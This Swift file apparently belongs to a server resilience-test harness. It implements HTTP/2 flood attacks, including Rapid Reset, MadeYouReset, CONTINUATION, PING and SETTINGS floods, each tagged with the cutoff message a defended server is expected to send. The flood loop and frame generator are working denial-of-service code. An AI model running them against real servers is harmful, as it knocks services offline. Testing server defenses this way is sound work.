import Peers

extension Attack {
  /// Frames and frames: each of these is cut off.
  static let floods: [Attack] = [
    flood("rapid-reset", "streams opened and reset at once (CVE-2023-44487)", calm: "reset as soon")
    {
      open(unary, on: $0) + reset($0)
    },
    flood("rapid-reset-nowhere", "the same, of a method that is none", calm: "reset as soon") {
      open("/no.Service/No", on: $0) + reset($0)
    },
    flood(
      "made-you-reset", "windows widened beyond their end (CVE-2025-8671)",
      calm: "reset for errors"
    ) { open(input, on: $0) + widen($0, by: 0x7fff_ffff) + widen($0, by: 0x7fff_ffff) },
    flood(
      "made-you-reset-headers", "requests that break a rule (CVE-2025-8671)",
      calm: "reset for errors"
    ) { open(unary, on: $0, [HeaderField("X-Upper", "a")]) },
    flood("refused-streams", "streams beyond the limit, again and again", calm: "beyond MAX") {
      open(input, on: $0)
    },
    flood("settings", "SETTINGS (CVE-2019-9515)", calm: "SETTINGS") { _ in
      Frame(.settings, payload: setting(4, 65_535)).bytes
    },
    flood("ping", "PING (CVE-2019-9512)", calm: "too_many_pings") { _ in
      Frame(.ping, payload: [1, 2, 3, 4, 5, 6, 7, 8]).bytes
    },
    flood("priority", "PRIORITY (CVE-2019-9513)", calm: "PRIORITY") {
      Frame(.priority, stream: $0, payload: [0, 0, 0, 0, 16]).bytes
    },
    flood(
      "window-update", "WINDOW_UPDATE", calm: "WINDOW_UPDATE", before: open(input, on: 1)
    ) { _ in widen(1, by: 1) },
    flood(
      "empty-data", "empty DATA (CVE-2019-9518)", calm: "empty DATA", before: open(input, on: 1)
    ) { _ in Frame(.data, stream: 1).bytes },
    flood("unknown-frames", "frames of a type that is none", calm: "no known use") { _ in
      Frame(Frame.Kind(rawValue: 0x77), payload: [1, 2, 3]).bytes
    },
    flood(
      "continuation", "a header block without end (CVE-2024-27316)", calm: "CONTINUATION",
      before: Frame(.headers, stream: 1, payload: block(unary)).bytes
    ) { _ in Frame(.continuation, stream: 1, payload: HeaderField("x-a", "b").literal).bytes },
    flood("empty-continuation", "CONTINUATION of no bytes", calm: "CONTINUATION") { stream in
      let empty = Frame(.continuation, stream: stream).bytes
      return Frame(.headers, .endStream, stream: stream, payload: block(unary)).bytes
        + (0..<7).flatMap { _ in empty }
        + Frame(.continuation, .endHeaders, stream: stream).bytes
    },
    flood(
      "late-reset", "RST_STREAM on a stream that is gone", calm: "not open",
      before: call(empty, on: 1) + reset(1)
    ) { _ in reset(1) },
    flood(
      "stream-backwards", "HEADERS on a smaller stream than seen (RFC 9113, 5.1.1)",
      cutOff: .error(1), before: open(input, on: 0x0fff_ffff)
    ) { open(unary, on: $0) },
  ]

  private static func flood(
    _ name: String, _ says: String, calm words: String, before: [UInt8] = [],
    _ frames: @escaping @Sendable (_ stream: UInt32) -> [UInt8]
  ) -> Attack {
    flood(name, says, cutOff: .calm(words), before: before, frames)
  }

  /// Says the frames again and again until it is cut off, and then again on a new connection.
  private static func flood(
    _ name: String, _ says: String, cutOff: CutOff, before: [UInt8],
    _ frames: @escaping @Sendable (_ stream: UInt32) -> [UInt8]
  ) -> Attack {
    Attack(name, says, cutOff: cutOff) { assault in
      while assault.goesOn {
        guard let connection = assault.connect() else {
          sleep(milliseconds: 10)
          continue
        }
        connection.say(before)
        var chunk = FloodChunk(frames)
        var rounds = 0
        while assault.goesOn, !connection.isClosed, connection.goAway == nil, chunk.hasStreams {
          connection.say(chunk.next())
          assault.said(chunk.repeats)
          rounds += 1
          if rounds % 4 == 0 { connection.hear(for: .milliseconds(1)) }
        }
        if !connection.isClosed { connection.hear(for: min(.milliseconds(500), assault.left)) }
        assault.note(connection)
      }
    }
  }
}

/// The same frames many times over, each time on the next stream; made once, then only renumbered,
/// so that what attacks is not slower than what is attacked.
private struct FloodChunk {
  let repeats: Int
  private var bytes: [UInt8] = []
  /// Where the numbers of streams stand that go up.
  private var places: [Int] = []
  private var lastStream: UInt32

  private static let size = 32_768
  private static let endOfStreams: UInt32 = 0x7fff_0000

  init(_ frames: (_ stream: UInt32) -> [UInt8]) {
    let (one, other) = (frames(1), frames(3))
    repeats = max(1, Self.size / one.count)
    var offset = 0
    var rest = one[...]
    var numbers: [Int] = []
    while let frame = Frame(takingFrom: &rest) {
      // The last byte of the number differs where it goes up.
      let place = offset + Frame.headerCount - 4
      if one.count == other.count, one[place + 3] != other[place + 3] { numbers.append(place) }
      offset += Frame.headerCount + frame.payload.count
    }
    for index in 0..<repeats {
      bytes += index == 0 ? one : frames(UInt32(1 + 2 * index))
      places += numbers.map { $0 + index * one.count }
    }
    lastStream = 1
  }

  var hasStreams: Bool { lastStream < Self.endOfStreams }

  /// The next chunk, each time of higher streams.
  mutating func next() -> [UInt8] {
    defer {
      lastStream += UInt32(2 * repeats)
      for place in places {
        let number = UInt32(bigEndianBytes: bytes[place..<place + 4]) + UInt32(2 * repeats)
        for (offset, byte) in number.bigEndianBytes.enumerated() { bytes[place + offset] = byte }
      }
    }
    return bytes
  }
}
